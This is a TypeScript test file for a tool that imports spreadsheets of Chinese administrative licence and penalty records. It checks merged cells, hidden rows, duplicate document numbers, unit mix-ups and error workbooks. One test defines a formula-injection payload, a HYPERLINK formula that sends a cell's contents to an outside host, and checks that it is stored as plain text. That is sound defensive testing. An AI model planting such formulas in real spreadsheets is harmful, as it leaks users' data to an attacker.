import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { inventedUscc } from '@test/fixtures/invented-subjects'
import { goodLicence, goodTable, workbookBytes } from './bad-files'
import { DeskUnderTest, scratchFolder } from './desk-under-test'
import type { FailureJson, ImportJson } from './desk-under-test'
import { messyRows } from './messy-rows'
import { expectRefusal } from './plain-refusal'

const scratch = scratchFolder('odd-sheets')
const desk = new DeskUnderTest(join(scratch.path, 'desk'))
const [header, ...licences] = goodTable(4, 70_000) as readonly [readonly string[], ...(readonly string[])[]]

/** Writes a workbook as a clerk would shape it and imports it. */
async function imported(
  name: string,
  type: string,
  shape: (sheet: ExcelJS.Worksheet, book: ExcelJS.Workbook) => void,
) {
  const workbook = new ExcelJS.Workbook()
  shape(workbook.addWorksheet('台账'), workbook)
  const path = join(scratch.path, `${name}.xlsx`)
  await workbook.xlsx.writeFile(path)
  return desk.run('import', path, '--type', type)
}

const withCell = (cells: readonly string[], at: number, value: string): string[] =>
  cells.map((cell, i) => (i === at ? value : cell))

beforeAll(async () => {
  expect((await desk.init()).code).toBe(0)
})
afterAll(() => scratch.remove())

describe('sheets that invite a wrong reading', () => {
  it('a fine in yuan is never taken for one in ten thousand yuan', async () => {
    const row = messyRows('XZCF_FR', 1, 71_000)[0]!
    const codes = Object.keys(row.cells).filter((code) => code !== 'CF_NR_FK')
    const result = await imported('yuan', 'XZCF_FR', (sheet) => {
      sheet.addRow([...codes, '罚款金额（元）'])
      sheet.addRow([...codes.map((code) => row.cells[code]!), '5000'])
    })
    const [record] = await desk.list('--type', 'XZCF_FR')
    const values = await desk.values(record!.recordId, `CF_WSH=${record!.docNo}`)
    expect(values['CF_NR_FK'] ?? '').toBe('')
    expect(result.json).toMatchObject({ clean: 0, blocked: 1 })
  })

  it('two columns for one field pass where they agree and block the row where they do not', async () => {
    const result = await imported('twice', 'XZXK_FR', (sheet) => {
      sheet.addRow([...header, '信用代码'])
      for (const [at, cells] of licences.entries())
        sheet.addRow([...cells, at === 2 ? inventedUscc(70_900) : cells[2]!])
    })
    const json = result.json as ImportJson
    expect(json).toMatchObject({ rows: licences.length, clean: licences.length - 1, blocked: 1 })
    expect(json.issues).toEqual([
      expect.objectContaining({
        row: 4,
        column: 'C',
        field: 'XK_XDR_SHXYM',
        value: inventedUscc(70_900),
        severity: 'error',
      }),
    ])
  })

  it('a missing required column blocks every row and says which', async () => {
    const result = await imported('column-missing', 'XZXK_FR', (sheet) => {
      sheet.addRow(header.filter((label) => label !== '许可内容'))
      for (const cells of licences)
        sheet.addRow(withCell(cells, 5, `${cells[5]}甲`).filter((_, at) => header[at] !== '许可内容'))
    })
    const json = result.json as ImportJson | FailureJson
    if ('failure' in json) return expectRefusal(result, 3)
    expect(json).toMatchObject({ rows: licences.length, clean: 0, blocked: licences.length })
    expect(json.issues.filter((issue) => issue.field === 'XK_NR')).toHaveLength(licences.length)
  })

  it('cells merged over data rows are not copied down in silence', async () => {
    const result = await imported('merged', 'XZXK_FR', (sheet) => {
      sheet.addRow([...header])
      for (const cells of licences) sheet.addRow(withCell(cells, 5, `${cells[5]}乙`))
      sheet.mergeCells(2, 8, 5, 8)
    })
    const json = result.json as ImportJson
    expect(result.code).toBe(1)
    expect(json.clean).toBeLessThanOrEqual(1)
    expect(json.blocked).toBeGreaterThanOrEqual(licences.length - 1)
  })

  it('the same document twice for one subject counts once; for two subjects it is asked about', async () => {
    const [first, second] = licences as [readonly string[], readonly string[]]
    const no = '萍示许〔2026〕重号'
    const result = await imported('same-number', 'XZXK_FR', (sheet) => {
      sheet.addRow([...header])
      sheet.addRow(withCell(first, 5, no))
      sheet.addRow(withCell(withCell(first, 5, no), 7, '准予从事餐饮服务'))
      sheet.addRow(withCell(second, 5, no))
    })
    const json = result.json as ImportJson
    expect(result.code).toBe(1)
    expect(json.rows).toBe(3)
    const found = new Map(json.issues.map((issue) => [issue.row, issue]))
    expect(found.get(3)).toMatchObject({ severity: 'error' })
    const records = (await desk.list()).filter((record) => record.docNo === no && record.quality === 'clean')
    expect(records.length).toBeLessThanOrEqual(2)
    expect(json.issues.some((issue) => issue.row === 4)).toBe(true)
  })

  it('hidden rows are imported with a word about it, or not at all; never in silence', async () => {
    const result = await imported('hidden-rows', 'XZXK_FR', (sheet) => {
      sheet.addRow([...header])
      for (const cells of licences) sheet.addRow(withCell(cells, 5, `${cells[5]}丙`))
      sheet.getRow(3).hidden = true
    })
    const json = result.json as ImportJson
    const told = `${JSON.stringify(json.issues)}${result.stderr}`
    if (json.rows === licences.length) expect(told).toMatch(/隐藏/)
    else expect(json.rows).toBe(licences.length - 1)
  })

  it('a header of two levels with merged groups is read, or refused in plain words', async () => {
    const result = await imported('two-levels', 'XZXK_FR', (sheet) => {
      sheet.addRow(
        header.map((_, at) => (at < 4 ? '行政相对人' : at < 8 ? '决定文书' : at < 11 ? '日期' : '机关')),
      )
      sheet.mergeCells(1, 1, 1, 4)
      sheet.mergeCells(1, 5, 1, 8)
      sheet.mergeCells(1, 9, 1, 11)
      sheet.mergeCells(1, 12, 1, 16)
      sheet.addRow([...header])
      for (const cells of licences) sheet.addRow(withCell(cells, 5, `${cells[5]}丁`))
    })
    if (result.code === 3) return expectRefusal(result, 3)
    expect(result.json).toMatchObject({ rows: licences.length, clean: licences.length })
  })

  it('text that a spreadsheet would run is stored as text and comes back as text', async () => {
    const evil = '=HYPERLINK("http://x/?"&A2,"a")'
    const result = await imported('formula-text', 'XZXK_FR', (sheet) => {
      sheet.addRow([...header, '备注'])
      sheet.addRow([...withCell(licences[0]!, 5, '萍示许〔2026〕公式号'), evil])
    })
    expect(result.json).toMatchObject({ imported: 1 })
    const record = (await desk.list()).find((one) => one.docNo === '萍示许〔2026〕公式号')
    const values = await desk.values(record!.recordId, `XK_WSH=${record!.docNo}`)
    expect(values['BZ']).toBe(evil)
  })

  it('what only the file could show is still said after a re-check', async () => {
    const doubtful = (await desk.list()).filter((record) => record.quality !== 'clean')
    expect(doubtful.length).toBeGreaterThan(5)
    await desk.run('check')
    const after = new Map((await desk.list()).map((record) => [record.recordId, record.quality]))
    expect(doubtful.filter((record) => after.get(record.recordId) !== record.quality)).toEqual([])
  })

  it('an error workbook holds the wrong rows and can be imported again after mending', async () => {
    const path = join(scratch.path, 'mixed.xlsx')
    const broken = withCell(goodLicence(72_000), 8, '2026-02-30')
    writeFileSync(path, workbookBytes('xlsx', [header, broken, goodLicence(72_001)]))
    const errors = join(scratch.path, 'errors.xlsx')
    const result = await desk.run('import', path, '--type', 'XZXK_FR', '--errors', errors)
    expect(result.json).toMatchObject({ rows: 2, clean: 1, blocked: 1 })
    const book = new ExcelJS.Workbook()
    await book.xlsx.readFile(errors)
    const cells: ExcelJS.Cell[] = []
    book.worksheets[0]!.eachRow((row) => row.eachCell((cell) => cells.push(cell)))
    const wrong = cells.filter((cell) => cell.text === '2026-02-30')
    expect(wrong).toHaveLength(1)
    wrong[0]!.value = '2026-11-10'
    const mended = join(scratch.path, 'mended.xlsx')
    await book.xlsx.writeFile(mended)
    const again = await desk.run('import', mended, '--type', 'XZXK_FR')
    expect(again.json, again.stderr).toMatchObject({ rows: 1, imported: 0, updated: 1, clean: 1, blocked: 0 })
  })
})
